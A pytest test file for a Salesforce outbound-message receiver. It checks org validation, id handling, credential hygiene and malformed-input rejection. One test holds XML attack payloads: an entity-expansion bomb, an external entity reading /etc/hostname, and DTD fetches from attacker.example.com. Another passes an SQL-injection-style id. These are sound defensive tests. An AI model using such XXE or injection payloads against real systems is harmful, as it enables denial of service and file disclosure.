"""Salesforce's outbound messages: from whom they are, and whom they concern."""

from __future__ import annotations

from typing import Any
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connector.doorbell import Delivery, Ignored, Malformed, Refused, WrongOrg
from connector.port import Notice, System
from connector.salesforce.events import SalesforceDoor, acknowledgement, receive
from connector.salesforce.wire import to18

ORG = to18("00D5g000000AbCd")
NOTE = to18("04l5g00000HaBcD")
LEAD = to18("00Q5g00000AbCdE")
SESSION = "00D5g-live-session"
OUTBOUND = "http://soap.sforce.com/2005/09/outbound"
DOOR = SalesforceDoor(ORG)
ENTERPRISE = "urn:sobject.enterprise.soap.sforce.com"


def notification(
    record_id: str | None = LEAD,
    *,
    note_id: str | None = NOTE,
    told: str = "sf:Lead",
    schema: str = ENTERPRISE,
    fields: str = "",
) -> str:
    """One notification; None leaves an id out."""
    note = "" if note_id is None else f"<Id>{note_id}</Id>"
    record = "" if record_id is None else f"<sf:Id>{escape(record_id)}</sf:Id>"
    kind = f' xsi:type="{told}"' if told else ""
    return (
        f"<Notification>{note}<sObject{kind} xmlns:sf={schema!r}>{record}{fields}</sObject>"
        "</Notification>"
    )


def message(*notifications: str, org: str | None = ORG, prolog: str = "") -> bytes:
    """An envelope as Salesforce writes it, with a session id in it."""
    owner = "" if org is None else f"<OrganizationId>{org}</OrganizationId>"
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"{prolog}"
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"{owner}<ActionId>04k5g0000008aBcAAE</ActionId><SessionId>{SESSION}</SessionId>"
        f"{''.join(notifications)}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def refusal(body: bytes) -> Refused:
    with pytest.raises(Refused) as refused:
        receive(DOOR, body)
    return refused.value


def test_a_notification_becomes_a_notice_about_its_record() -> None:
    """Known again by the notification's id, which stays when Salesforce tries again."""
    delivery = receive(DOOR, message(notification()))
    expected = Notice(System.SALESFORCE, "Lead", LEAD, "changed", identity=NOTE)
    assert delivery == Delivery((expected,))


def test_ids_of_fifteen_characters_are_widened() -> None:
    """The org's in the message, the org's in the settings, the record's and the notification's."""
    body = message(notification(LEAD[:15], note_id=NOTE[:15]), org=ORG[:15])
    delivery = receive(SalesforceDoor(ORG[:15]), body)
    assert [(one.record_id, one.identity) for one in delivery.notices] == [(LEAD, NOTE)]


def test_the_partner_schema_is_understood_too() -> None:
    """Its record has the id in another namespace, and some tools write it twice."""
    body = message(
        notification(
            schema="urn:sobject.partner.soap.sforce.com",
            fields="<sf:Id>00Q5g00000ZZZZZZZZ</sf:Id><sf:Email>ann@example.com</sf:Email>",
        )
    )
    assert [one.record_id for one in receive(DOOR, body).notices] == [LEAD]


def test_fields_that_look_like_ids_are_not_taken_for_the_id() -> None:
    """Only the record's own: not a reference, and not one inside of it."""
    inner = f"<sf:OwnerId>{ORG}</sf:OwnerId><sf:Owner><sf:Id>{ORG}</sf:Id></sf:Owner>"
    assert receive(DOOR, message(notification(None, fields=inner))).ignored[0].code == "no_id"


@pytest.mark.parametrize("many", [1, 100, 2_000])
def test_any_number_of_notifications_is_taken(many: int) -> None:
    """The vendor sends up to a hundred; more are fine."""
    delivery = receive(DOOR, message(*[notification()] * many))
    assert len(delivery.notices) == many


def test_an_empty_message_is_an_empty_delivery() -> None:
    """It is acked like any other."""
    assert receive(DOOR, message()) == Delivery()


def test_a_record_without_data_is_ignored_and_the_others_count() -> None:
    """Deleted before the message was sent."""
    delivery = receive(DOOR, message(notification(), notification(None), notification()))
    assert len(delivery.notices) == 2
    assert [(one.index, one.code) for one in delivery.ignored] == [(1, "no_id")]


@pytest.mark.parametrize(
    ("odd", "code"),
    [
        (notification("short"), "no_id"),
        (notification("' OR Name != '----"), "no_id"),
        (notification("0" * 5_000), "no_id"),
        (notification(told=""), "no_type"),
        (notification(told="sf:"), "no_type"),
        (notification(told="sf:Le ad"), "no_type"),
        ("<Notification/>", "no_type"),
    ],
)
def test_odd_notifications_are_ignored_with_their_reason(odd: str, code: str) -> None:
    """They never spoil their message."""
    delivery = receive(DOOR, message(odd, notification()))
    assert [one.code for one in delivery.ignored] == [code]
    assert len(delivery.notices) == 1


def test_a_notification_without_an_id_counts_and_cannot_be_known_again() -> None:
    """In doubt twice."""
    assert receive(DOOR, message(notification(note_id=None))).notices[0].identity is None


def test_objects_that_nobody_maps_are_ignored_by_name() -> None:
    """Custom ones too."""
    door = SalesforceDoor(ORG, wanted={"Lead"}.__contains__)
    delivery = receive(door, message(notification(), notification(told="sf:Machine__c")))
    assert delivery.ignored == (Ignored(1, "not_mapped", "no mapping is about Machine__c"),)


@pytest.mark.parametrize(
    "org", ["00D5g000000AbCeEAK", "00d5g000000abcdeak", "", "é" * 15, ORG + "A", None]
)
def test_another_org_is_refused(org: str | None) -> None:
    """Or one that is not named."""
    error = refusal(message(notification(), org=org))
    assert isinstance(error, WrongOrg)


def test_an_org_that_is_named_too_late_is_refused() -> None:
    """The schema puts it first; a message that hides it is none of Salesforce's."""
    late = f"<OrganizationId>{ORG}</OrganizationId>"
    assert isinstance(refusal(message(notification(), late, org=None)), WrongOrg)


def test_a_second_org_in_the_same_message_is_refused() -> None:
    """Each one that is named has to be ours."""
    second = "<OrganizationId>00D5g000000AbCeEAK</OrganizationId>"
    assert isinstance(refusal(message(second, notification())), WrongOrg)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))


@pytest.mark.parametrize(
    "prolog",
    [
        "<!DOCTYPE x>",
        f"<!DOCTYPE x [{LAUGHS}]>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example.com/x.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example.com/p"> %p;]>',
    ],
)
def test_document_types_and_entities_are_refused(prolog: str) -> None:
    """Billion laughs, files and addresses alike; nothing is expanded or fetched."""
    error = refusal(message(notification(), prolog=prolog))
    assert isinstance(error, Malformed)
    assert error.code == "forbidden_xml"


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"", "not_xml"),
        (b"no xml", "not_xml"),
        (message(notification())[:-20], "not_xml"),
        (message(notification("&unknown;").replace("&amp;", "&")), "not_xml"),
        (message(notification(fields="<sf:Name>\x00</sf:Name>")), "not_xml"),
        (message().decode().encode("utf-16"), "not_utf8"),
        (
            message(notification(fields="<sf:Name>\xe9</sf:Name>")).decode().encode("latin-1"),
            "not_utf8",
        ),
        (b"<a/>", "no_message"),
        (message().replace(b"2005/09/outbound", b"2005/09/inbound"), "no_message"),
        (message().replace(b"xmlsoap.org", b"example.com"), "no_message"),
        (message(f"</notifications><notifications xmlns={OUTBOUND!r}>"), "no_message"),
        (b"<a>" * 100 + b"</a>" * 100, "too_deep"),
        (b"<a>" * 100_000, "too_deep"),
    ],
)
def test_what_is_no_message_is_malformed(body: bytes, code: str) -> None:
    """Truncated, of another charset, of another schema or nested without end."""
    error = refusal(body)
    assert isinstance(error, Malformed)
    assert error.code == code


def test_a_declaration_of_another_encoding_does_not_change_the_reading() -> None:
    """A body is UTF-8, whatever it says about itself; a byte order mark is fine."""
    body = message(notification(fields="<sf:Name>架け橋</sf:Name>"))
    for one in (body.replace(b'"UTF-8"', b'"UTF-16"'), b"\xef\xbb\xbf" + body):
        assert len(receive(DOOR, one).notices) == 1


def test_the_session_id_is_kept_nowhere() -> None:
    """It is a live credential of a person."""
    good = receive(DOOR, message(notification()))
    bad = refusal(message("<", notification()))
    assert SESSION not in repr(good) + repr(bad) + str(bad)


def test_the_acknowledgement_says_yes_or_no_in_the_vendors_words() -> None:
    """Anything else would be sent again."""
    assert b"<Ack>true</Ack>" in acknowledgement(True)
    assert b"<Ack>false</Ack>" in acknowledgement(False)
    assert b'xmlns="http://soap.sforce.com/2005/09/outbound"' in acknowledgement(True)


@settings(max_examples=80, deadline=None)
@given(st.data())
def test_any_bytes_are_read_or_refused(data: st.DataObject) -> None:
    """A good message with a piece cut out or overwritten: no other error exists."""
    body = message(notification(), notification(None))
    start = data.draw(st.integers(0, len(body)))
    end = data.draw(st.integers(start, min(len(body), start + 40)))
    broken: Any = body[:start] + data.draw(st.binary(max_size=12)) + body[end:]
    try:
        delivery = receive(DOOR, broken)
    except Refused as error:
        assert error.reason
    else:
        assert len(delivery.notices) + len(delivery.ignored) <= 2
